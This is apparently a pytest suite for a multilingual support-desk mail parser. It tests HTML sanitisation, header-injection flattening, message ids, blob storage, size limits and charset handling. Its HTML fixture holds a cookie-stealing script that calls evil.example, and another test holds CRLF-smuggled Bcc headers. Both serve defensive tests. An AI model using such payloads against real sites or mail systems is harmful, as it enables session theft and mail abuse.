"""parse_mail beyond the corpus: ids, blobs, limits, injection, HTML safety, JSON view, robustness."""

from __future__ import annotations

import base64
import hashlib
import json
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Literal

import pytest

from frontdesk.errors import RecordError, TransientError
from frontdesk.messages import InboundMessage, message_id
from ingest.blobs import BlobStore, BlobWriteFailed
from ingest.mail import MailLimits, MailRejected, parse_mail, to_parse_json
from ingest.mail.flags import msgid_list, normalise_msgid
from tests.fixtures.mail.corpus import build_corpus

LIMITS = MailLimits()
NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)


def parse(raw: bytes, blobs: BlobStore | None = None, limits: MailLimits = LIMITS, *,
          connector: str = "imap:support", channel: Literal["email", "social"] = "email",
          received_at: datetime | None = NOW) -> InboundMessage:
    return parse_mail(raw, connector=connector, channel=channel, blobs=blobs, limits=limits, received_at=received_at)


def mail(body: str = "Salam, pulum gəlmədi.", *, headers: str = "", ctype: str = "text/plain; charset=utf-8") -> bytes:
    head = f"From: Elvin <elvin@mail.az>\r\nTo: support@bet.az\r\nSubject: Pul\r\n{headers}Content-Type: {ctype}"
    return head.encode() + b"\r\n\r\n" + body.encode()


def ew(text: str) -> str:
    return f"=?utf-8?B?{base64.b64encode(text.encode()).decode()}?="


def test_html_script_content_never_reaches_the_text() -> None:
    html = ("<html><head><script>alert('head-script')</script><style>.a{color:red}</style></head><body>"
            "<p>Hesabım bloklanıb.</p><script>fetch('https://evil.example/'+document.cookie)</script>"
            '<a href="javascript:steal()" onclick="steal()">link text</a><iframe src="https://evil.example"></iframe>'
            "<svg><script>svg-script</script></svg></body></html>")
    msg = parse(mail(html, ctype="text/html; charset=utf-8"))
    assert "Hesabım bloklanıb." in msg.text and "link text" in msg.text
    for hidden in ("head-script", "color:red", "evil.example", "document.cookie", "steal", "svg-script"):
        assert hidden not in msg.full_text


def test_header_injection_is_flattened_in_subject_and_names() -> None:
    raw = (f"From: {ew('Elvin' + chr(13) + chr(10) + 'Bcc: all@bet.az')} <elvin@mail.az>\r\n"
           f"To: {ew('Ops' + chr(10) + 'X-Evil: 1')} <ops@bet.az>\r\n"
           f"Subject: {ew('Pul' + chr(13) + chr(10) + 'Bcc: victim@evil.example' + chr(0))}\r\n\r\nbody").encode()
    msg = parse(raw)
    assert msg.subject == "Pul Bcc: victim@evil.example"
    assert msg.sender.name == "Elvin Bcc: all@bet.az"
    assert msg.recipients[0].name == "Ops X-Evil: 1"
    for value in (msg.subject, msg.sender.name, msg.recipients[0].name):
        assert not {"\r", "\n", "\x00"} & set(value or "")


def test_the_same_bytes_give_the_same_message_and_id() -> None:
    raw = mail(headers="Message-ID: <abc.1@mail.az>\r\n")
    first, second = parse(raw), parse(raw, received_at=NOW + timedelta(days=3))
    assert first.id == second.id == message_id("imap:support", "<abc.1@mail.az>", hashlib.sha256(raw).hexdigest())
    assert first.model_copy(update={"received_at": NOW}) == second.model_copy(update={"received_at": NOW})
    assert parse(raw, connector="imap:other").id != first.id


def test_two_different_mails_with_one_message_id_get_two_ids_under_that_message_id() -> None:
    """Web forms and broken mailers send every mail with the same fixed Message-ID: keyed on the
    Message-ID alone, the second mail had the first one's id and was dropped downstream as a redelivery."""
    first = mail("Depozit gəlmədi.", headers="Message-ID: <form@site.example>\r\n")
    second = mail("Hesabım oğurlanıb!", headers="Message-ID: <form@site.example>\r\n")
    a, b = parse(first), parse(second)
    assert a.external_id == b.external_id == "<form@site.example>", "threading and replies still use it"
    assert a.id != b.id
    assert parse(first, received_at=NOW + timedelta(days=1)).id == a.id, "the same mail fetched again: the same id"


def test_missing_message_id_gets_a_deterministic_synthetic_one() -> None:
    raw = mail()
    msg = parse(raw)
    assert msg.external_id == f"<{hashlib.sha256(raw).hexdigest()}@frontdesk.invalid>"
    assert parse(raw).id == msg.id
    assert parse(raw + b" ").id != msg.id


def test_received_at_defaults_to_now_in_utc_and_must_be_aware() -> None:
    before = datetime.now(UTC)
    msg = parse_mail(mail(), connector="imap:support", channel="email", blobs=None, limits=LIMITS)
    assert before <= msg.received_at <= datetime.now(UTC) and msg.received_at.tzinfo is not None
    baku = datetime(2026, 3, 1, 16, 0, tzinfo=timezone(timedelta(hours=4)))
    assert parse(mail(), received_at=baku).received_at == NOW
    with pytest.raises(ValueError, match="timezone-aware"):
        parse(mail(), received_at=datetime(2026, 3, 1, 12, 0))


def test_social_channel_has_no_email_platform() -> None:
    msg = parse(mail(), channel="social", connector="imap:social")
    assert (msg.channel, msg.platform, msg.connector) == ("social", None, "imap:social")
    assert parse(mail()).platform == "email"


def test_raw_and_attachments_are_stored_only_on_success(tmp_path: Path) -> None:
    store = BlobStore(tmp_path)
    pdf = b"%PDF-1.4 " + bytes(range(256)) * 8
    big = b"B" * 5000
    body = ("--b\r\nContent-Type: text/plain\r\n\r\nSee files.\r\n--b\r\nContent-Type: application/pdf\r\n"
            "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=a.pdf\r\n\r\n"
            + base64.encodebytes(pdf).decode() + "\r\n--b\r\nContent-Type: application/octet-stream\r\n"
            "Content-Disposition: attachment; filename=big.bin\r\n\r\n" + big.decode() + "\r\n--b--\r\n")
    raw = mail(body, ctype='multipart/mixed; boundary="b"')
    msg = parse(raw, store, MailLimits(max_attachment_bytes=4096))
    assert msg.raw_ref is not None and store.get(msg.raw_ref) == raw
    small, large = msg.attachments
    assert store.get(small.stored_at or "") == pdf and small.sha256 == hashlib.sha256(pdf).hexdigest()
    assert large.stored_at is None and large.size == len(big) and large.sha256 == hashlib.sha256(big).hexdigest()
    assert parse(raw).raw_ref is None and all(a.stored_at is None for a in parse(raw).attachments)
    rejected_store = BlobStore(tmp_path / "rejected")
    with pytest.raises(MailRejected):
        parse(raw, rejected_store, MailLimits(max_parts=1))
    assert not (tmp_path / "rejected").exists()


def test_a_failing_blob_store_is_transient_not_a_rejection(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_bytes(b"x")
    with pytest.raises(BlobWriteFailed) as caught:
        parse(mail(), BlobStore(blocker))
    assert isinstance(caught.value, TransientError) and not isinstance(caught.value, RecordError)


@pytest.mark.parametrize(
    ("limits", "raw", "reason"),
    [
        (MailLimits(max_message_bytes=1024), b"Subject: x\r\n\r\n" + b"y" * 2000,
         "message is 2 KiB, over the 1 KiB limit"),
        (MailLimits(max_message_bytes=1000), b"Subject: x\r\n\r\n" + b"y" * 990,
         "message is 1004 bytes, over the 1000 bytes limit"),
        (MailLimits(max_message_bytes=2048), b"Subject: x\r\n\r\n" + b"y" * 2035,
         "message is 2049 bytes, over the 2048-byte limit"),
        (MailLimits(max_header_bytes=100), b"X-A: " + b"a" * 200 + b"\r\n\r\nbody",
         "header section is over the 100 bytes limit"),
        (LIMITS, b"\r\n\r\n\x00", "message is empty"),
    ],
)
def test_rejection_reasons(limits: MailLimits, raw: bytes, reason: str) -> None:
    with pytest.raises(MailRejected) as caught:
        parse(raw, limits=limits)
    assert caught.value.reason == reason and str(caught.value) == reason
    assert isinstance(caught.value, RecordError)


def test_to_parse_json_is_one_json_object_with_the_operator_fields(tmp_path: Path) -> None:
    raw = next(m.raw for m in build_corpus() if m.name == "bounce-postfix-rfc822")
    view = to_parse_json(parse(raw, BlobStore(tmp_path)))
    decoded = json.loads(json.dumps(view, ensure_ascii=False))
    required = {"subject", "sender", "sender_name", "text", "full_text", "attachments", "auto_submitted", "bounce",
                "bulk", "message_id", "external_id", "in_reply_to", "references", "auto_reply", "list_id",
                "bounced_message_id", "sent_at"}
    assert required <= decoded.keys()
    assert decoded["bounce"] is True and decoded["bounced_message_id"] == "<ack.7001@bet.az>"
    assert decoded["sender"] == "mailer-daemon@mx.mail.example"
    assert {"name", "content_type", "size", "sha256"} <= decoded["attachments"][0].keys()
    assert decoded["sent_at"].endswith("+00:00") and decoded["message_id"].startswith("msg_")


def test_message_id_helpers() -> None:
    assert normalise_msgid("  <a.b@c> (comment) ") == "<a.b@c>"
    assert normalise_msgid("a.b@c") == "<a.b@c>"
    assert normalise_msgid("<>") is None and normalise_msgid("") is None
    refs = " ".join(f"<r{i}@x>" for i in range(150)) + " <r5@x>"
    listed = msgid_list(refs)
    assert len(listed) == 100 and listed[0] == "<r0@x>" and listed[-1] == "<r149@x>"


def mutations(raw: bytes, seed: int) -> list[bytes]:
    """Deterministic damage: truncations, NUL/0xFF injections, CR/LF swaps, boundary corruption."""
    out = [raw[: len(raw) * k // 7] for k in range(1, 7)]
    step = max(1, len(raw) // 5)
    out += [raw[:i] + b"\x00\xff\r" + raw[i:] for i in range(seed % step, len(raw), step)]
    out += [raw.replace(b"\r\n", b"\r"), raw.replace(b"--", b"-"), raw.replace(b":", b"", 3), raw.replace(b"=",
        b"\x00")]
    return out


@pytest.mark.timeout(300)
def test_damaged_mail_is_parsed_or_rejected_never_crashes() -> None:
    corpus = [m for m in build_corpus() if len(m.raw) < 200_000]
    outcomes = {"parsed": 0, "rejected": 0}
    for index, item in enumerate(corpus):
        for damaged in mutations(item.raw, index):
            try:
                msg = parse(damaged)
            except MailRejected:
                outcomes["rejected"] += 1
                continue
            outcomes["parsed"] += 1
            assert "\x00" not in msg.text + msg.full_text + msg.subject
    assert outcomes["parsed"] > 3000


def test_turkish_headers_texts_and_file_names_stay_turkish() -> None:
    """Short words in ISO-8859-9 / windows-1254 have mostly bytes >= 0xC0, like Cyrillic; the label wins."""
    raw = ("From: =?iso-8859-9?Q?=DE=FCkr=FC?= <s@mail.com.tr>\r\nTo: support@bet.az\r\n"
           "Subject: =?windows-1254?Q?=C7a=F0r=FD?=\r\nMIME-Version: 1.0\r\n"
           'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
           "Content-Type: text/plain; charset=iso-8859-9\r\nContent-Transfer-Encoding: 8bit\r\n\r\n").encode()
    raw += "Işığı Öğün\r\n".encode("iso-8859-9") + (
        "--b\r\nContent-Type: application/pdf; name=\"=?iso-8859-9?Q?=D6=F0=FCn.pdf?=\"\r\n\r\n%PDF-1.4\r\n"
        "--b\r\nContent-Type: application/pdf\r\n"
        "Content-Disposition: attachment; filename*=windows-1254''%DE%FCkr%FC.pdf\r\n\r\n"
        "%PDF-1.4\r\n--b--\r\n").encode()
    msg = parse(raw)
    assert (msg.sender.name, msg.subject, msg.text) == ("Şükrü", "Çağrı", "Işığı Öğün")
    assert [a.name for a in msg.attachments] == ["Öğün.pdf", "Şükrü.pdf"]


RU_LINE = "Здравствуйте, у меня проблема с картой. Платёж 100€ не прошёл 😞 "


@pytest.mark.parametrize("charset", ["windows-1251", "koi8-r", "iso-8859-1", "utf-8"])
@pytest.mark.parametrize("shift", range(4))
def test_utf8_body_with_a_wrong_label_survives_a_cut_inside_a_character(charset: str, shift: int) -> None:
    """Only the first 4 x max_text_chars bytes are decoded; where that cut falls must not matter."""
    text = "x" * shift + RU_LINE * 40
    for chars in range(250, 262):
        limits = MailLimits(max_text_chars=chars)
        msg = parse(mail(text, ctype=f"text/plain; charset={charset}"), limits=limits)
        assert msg.full_text.rstrip() == text[:chars].rstrip(), (chars, msg.full_text[:60])


@pytest.mark.parametrize(
    ("cte", "encoded"),
    [("base64", "IA0K"), ("base64", "DQoNCgkg"), ("quoted-printable", "=20=0D=0A=09"),
     ("quoted-printable", "=C2=A0=EF=BB=BF="), ("7bit", " \r\n \r\n")],
)
def test_a_blank_plain_alternative_gives_way_to_the_html(cte: str, encoded: str) -> None:
    body = ("--b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: " + cte + "\r\n\r\n"
            + encoded + "\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
            "<p>Pulum hələ gəlməyib.</p>\r\n--b--\r\n")
    msg = parse(mail(body, ctype='multipart/alternative; boundary="b"'))
    assert msg.text == "Pulum hələ gəlməyib."


def test_a_plain_alternative_with_text_is_still_preferred() -> None:
    plain = base64.b64encode("\r\n  Pulum gəlmədi (plain).\r\n".encode()).decode()
    long_plain = base64.encodebytes(("Uzun mətn. " * 500).encode()).decode()
    for encoded in (plain, long_plain):
        body = ("--b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" + encoded
                + "\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>HTML version</p>\r\n--b--\r\n")
        msg = parse(mail(body, ctype='multipart/alternative; boundary="b"'))
        assert "HTML version" not in msg.full_text and msg.text.startswith(("Pulum gəlmədi (plain).", "Uzun mətn."))
